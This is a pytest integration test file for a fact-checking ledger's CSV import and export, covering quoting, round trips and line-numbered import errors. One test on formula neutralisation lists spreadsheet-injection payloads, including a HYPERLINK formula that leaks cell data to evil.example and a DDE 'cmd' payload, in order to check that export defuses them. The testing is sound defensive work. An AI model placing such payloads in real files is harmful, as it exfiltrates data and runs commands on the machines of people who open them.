"""CSV import/export: one row per evidence item, RFC 4180 quoting, all-or-nothing, line-numbered errors."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Factledger

pytestmark = pytest.mark.integration

HEADER = [
    "id",
    "text",
    "speaker",
    "speaker_kind",
    "dates",
    "status",
    "score",
    "score_model",
    "role",
    "rationale",
    "url",
    "stance",
    "quote",
    "quote_status",
    "evidence_score",
]
TRICKY_QUOTE = 'He said "no, never",\nthen left.'

# Seeded through JSONL so the CSV side is checked against the format the ledger already trusts.
SEED = [
    {
        "text": "Blinken met Pashinyan and Aliyev on February 18.",
        "speaker": "Blinken",
        "date": "2023-02-18",
        "status": "supported",
        "score": 0.75,
        "rationale": 'Matches the "readout", item 3',
        "evidence": [
            {"url": "https://www.state.gov/a", "stance": "supports", "quote": TRICKY_QUOTE},
            {"url": "https://www.usaid.gov/news", "stance": "refutes", "quote": "a, b; c"},
        ],
    },
    {"text": "The talks were held between May 1-4.", "dates": ["2023-05-01/2023-05-04", "2023-06-01"]},
    {
        "text": "Power announced $11.5 million in humanitarian aid.",
        "status": "mixed",
        "evidence": [{"url": "https://www.usaid.gov/news", "stance": "context"}],
    },
]


def _csv(rows: list[list[str]], header: list[str] = HEADER) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def _row(**cells: str) -> list[str]:
    return [cells.get(name, "") for name in HEADER]


def _seed(factledger: Factledger, tmp_path: Path) -> None:
    path = tmp_path / "seed.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in SEED) + "\n", encoding="utf-8")
    assert factledger("import", "jsonl", str(path)).exit_code == 0


def _shape(ledger: Factledger) -> list[tuple[Any, ...]]:
    """Each exported claim as a tuple of its JSON values (any JSON type), evidence last."""
    exported = [json.loads(line) for line in ledger("export", "jsonl").stdout.splitlines()]
    return [
        (
            c["text"],
            c["speaker"],
            tuple(c["dates"]),
            c["status"],
            c["score"],
            c["rationale"],
            tuple((e["url"], e["stance"], e["quote"]) for e in c["evidence"]),
        )
        for c in exported
    ]


def test_export_writes_one_row_per_evidence_item(factledger: Factledger, tmp_path: Path) -> None:
    _seed(factledger, tmp_path)
    out = tmp_path / "out.csv"
    result = factledger("export", "csv", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    raw = out.read_bytes()
    assert raw.startswith(",".join(HEADER).encode() + b"\r\n")  # RFC 4180 line endings
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert rows[0] == HEADER
    body = [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]
    assert [(r["id"], r["url"], r["stance"]) for r in body] == [
        ("1", "https://www.state.gov/a", "supports"),
        ("1", "https://www.usaid.gov/news", "refutes"),
        ("2", "", ""),  # a claim without evidence is still one row
        ("3", "https://www.usaid.gov/news", "context"),
    ]
    assert body[0]["quote"] == TRICKY_QUOTE
    assert body[0]["quote_status"] == "unchecked"
    assert body[0]["score"] == "0.75"
    assert body[2]["dates"] == "2023-05-01/2023-05-04;2023-06-01"


def test_round_trip_into_an_empty_ledger(factledger: Factledger, tmp_path: Path) -> None:
    _seed(factledger, tmp_path)
    out = tmp_path / "out.csv"
    assert factledger("export", "csv", "-o", str(out)).exit_code == 0
    fresh = Factledger(db_url=f"sqlite:///{tmp_path / 'fresh.sqlite3'}", home=tmp_path / "fresh")
    result = fresh("import", "csv", str(out), "--json")
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout) == {
        "claims_created": 3,
        "claims_matched": 0,
        "evidence_added": 3,
        "sources": 2,
    }
    assert _shape(fresh) == _shape(factledger)
    assert _shape(fresh)[0][-1][0][2] == TRICKY_QUOTE


def test_export_one_claim(factledger: Factledger, tmp_path: Path) -> None:
    _seed(factledger, tmp_path)
    rows = list(csv.reader(io.StringIO(factledger("export", "csv", "--claim", "3").stdout, newline="")))
    assert [row[0] for row in rows] == ["id", "3"]
    missing = factledger("export", "csv", "--claim", "99", "-o", str(tmp_path / "x.csv"))
    assert missing.exit_code == 1
    assert not (tmp_path / "x.csv").exists()


def test_import_hand_written_csv(factledger: Factledger, tmp_path: Path) -> None:
    """A spreadsheet's export: BOM, columns in its own order, rows grouped by text when id is empty."""
    header = ["text", "url", "stance", "quote", "speaker"]
    text = _csv(
        [
            ["Inflation hit 9.1% in June.", "https://www.bls.gov/cpi", "supports", "9.1 percent", "Ann"],
            ["Inflation hit 9.1% in June.", "https://example.com/x", "refutes", 'said "8", not 9', ""],
            ["A claim, with a comma.", "", "", "", ""],
        ],
        header=header,
    )
    path = tmp_path / "sheet.csv"
    path.write_bytes("\ufeff".encode() + text.encode("utf-8"))
    result = factledger("import", "csv", str(path), "--json")
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["claims_created"] == 2
    claims = factledger.json("claims", "list")
    assert [(c["text"], c["speaker"], c["status"]) for c in claims] == [
        ("Inflation hit 9.1% in June.", "Ann", "unreviewed"),
        ("A claim, with a comma.", None, "unreviewed"),
    ]
    shown = factledger.json("claims", "show", str(claims[0]["id"]))
    assert [(e["stance"], e["quote"]) for e in shown["evidence"]] == [
        ("supports", "9.1 percent"),
        ("refutes", 'said "8", not 9'),
    ]


GOOD_ROWS = [
    _row(id="1", text="First claim.", status="supported", url="https://a.org/1", stance="supports"),
    # A quoted field that spans three physical lines: the rows after it must still be counted right.
    _row(id="1", url="https://b.org/2", stance="refutes", quote="line one\nline two\nline three"),
]


@pytest.mark.parametrize(
    ("bad_row", "fragment"),
    [
        (
            _row(text="Bad stance.", url="https://c.org", stance="agrees"),
            "line 6, field 'stance': unknown stance",
        ),
        (_row(text="Bad status.", status="probably"), "line 6, field 'status': unknown status"),
        (_row(text="Bad url.", url="ftp://c.org/a", stance="supports"), "line 6, field 'url'"),
        (_row(text="No url.", stance="supports", quote="q"), "line 6, field 'url': every evidence item"),
        (_row(text="Bad date.", dates="2023-02-18;18/02/2023"), "line 6, field 'dates'"),
        (_row(text="Bad score.", score="high"), "line 6, field 'score'"),
        (_row(id="7", speaker="Nobody"), "line 6, field 'text'"),
        (_row(id="1", speaker="Somebody else"), "line 6, field 'speaker': differs from line 2"),
        (["Too", "few"], "line 6: expected 15 fields like the header, found 2"),
    ],
)
def test_a_bad_row_imports_nothing_and_names_the_line(
    factledger: Factledger, tmp_path: Path, bad_row: list[str], fragment: str
) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(_csv([*GOOD_ROWS, bad_row, _row(text="After.")]), encoding="utf-8", newline="")
    result = factledger("import", "csv", str(path))
    assert result.exit_code == 1
    assert fragment in result.stderr
    # The bad record on a line of its own, then the summary: nothing imported.
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 2
    assert fragment in lines[0]
    assert "1 bad" in lines[1]
    assert "nothing imported" in lines[1]
    assert factledger.json("claims", "list") == []
    assert factledger.json("sources", "list") == []


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"speaker,url,stance\r\nAnn,https://a.org,supports\r\n", "line 1, field 'text': the header has no"),
        (b"text,verdict,source\r\nA claim.,true,x\r\n", "line 1: unknown column(s) 'verdict', 'source'"),
        (b"text,text\r\nA,B\r\n", "line 1: column(s) 'text' appear twice"),
        (b"", "line 1: the file is empty"),
        (b"text\r\nFine.\r\n" + "Caf\u00e9.".encode("latin-1") + b"\r\n", "line 3: not valid UTF-8"),
        (b'text,quote\r\nFine.,\r\nOpen.,"never closed\r\nmore\r\n', "line 3: not valid CSV"),
    ],
)
def test_bad_file_structure_imports_nothing(
    factledger: Factledger, tmp_path: Path, content: bytes, fragment: str
) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    result = factledger("import", "csv", str(path))
    assert result.exit_code == 1
    assert fragment in result.stderr
    assert factledger.json("claims", "list") == []


def test_reimport_is_a_no_op(factledger: Factledger, tmp_path: Path) -> None:
    _seed(factledger, tmp_path)
    out = tmp_path / "out.csv"
    factledger("export", "csv", "-o", str(out))
    again = json.loads(factledger("import", "csv", str(out), "--json").stdout)
    assert again == {"claims_created": 0, "claims_matched": 3, "evidence_added": 0, "sources": 2}


def test_formula_cells_are_neutralised_on_export_and_restored_on_import(
    factledger: Factledger, tmp_path: Path
) -> None:
    # Hostile input: claim texts, a speaker and a quote that a spreadsheet would run as formulas. On
    # main `export csv` wrote them unchanged, so `=HYPERLINK(...)` ran when the file was opened.
    hostile = [
        '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3 is what the minister said",
        "@SUM(1+1)",
        "'=already quoted by someone",
    ]
    for text in hostile:
        added = factledger("claims", "add", "--speaker", "@handle", "--", text)  # "--": "-2+3" is no option
        assert added.exit_code == 0, added.stderr
    claim_id = str(factledger.json("claims", "list")[0]["id"])
    cited = factledger(
        "cite", claim_id, "https://example.org/a", "--stance", "supports", "--quote", "=1+1 in the release"
    )
    assert cited.exit_code == 0, cited.stderr
    exported = tmp_path / "claims.csv"
    assert factledger("export", "csv", "-o", str(exported)).exit_code == 0
    with exported.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert {row["text"] for row in rows} == {"'" + text for text in hostile}
    assert {row["speaker"] for row in rows} == {"'@handle"}
    assert "'=1+1 in the release" in {row["quote"] for row in rows}

    # Import restores the texts: every claim matches its original, none comes back with an apostrophe.
    imported = factledger.json("import", "csv", str(exported))
    assert imported["claims_created"] == 0
    assert imported["claims_matched"] == len(hostile)


def test_a_speaker_kind_without_a_speaker_is_refused(factledger: Factledger, tmp_path: Path) -> None:
    # A kind of nobody cannot be published as a ClaimReview author; it was silently kept before.
    path = tmp_path / "claims.csv"
    path.write_text(
        "text,speaker_kind\r\nThe port handled 2 million containers.,organisation\r\n", encoding="utf-8"
    )
    result = factledger("import", "csv", str(path))
    assert result.exit_code == 1
    assert "line 2, field 'speaker_kind': a speaker kind needs a speaker" in result.stderr
    assert factledger.json("claims", "list") == []
